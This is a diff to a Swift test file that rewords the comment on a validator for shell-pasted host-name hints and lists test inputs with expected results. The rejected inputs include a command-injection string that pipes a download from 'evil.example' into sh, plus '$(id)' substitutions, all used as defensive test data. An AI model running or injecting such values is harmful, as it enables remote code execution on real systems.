@@ -19,7 +19,7 @@ import Testing
     return try #require(DeployProbe(Array(text.utf8)))
   }
 
-  /// A hint is made to be pasted: what another side wrote stands in it as a host's name, or not at all.
+  /// A hint is pasted into a shell: text of the peer may only occur in it as a valid host name.
   @Test(arguments: [
     ("x; curl evil.example|sh #", false), ("$(id)", false), ("`id`", false), ("A b", false),
     ("worker-2", true),
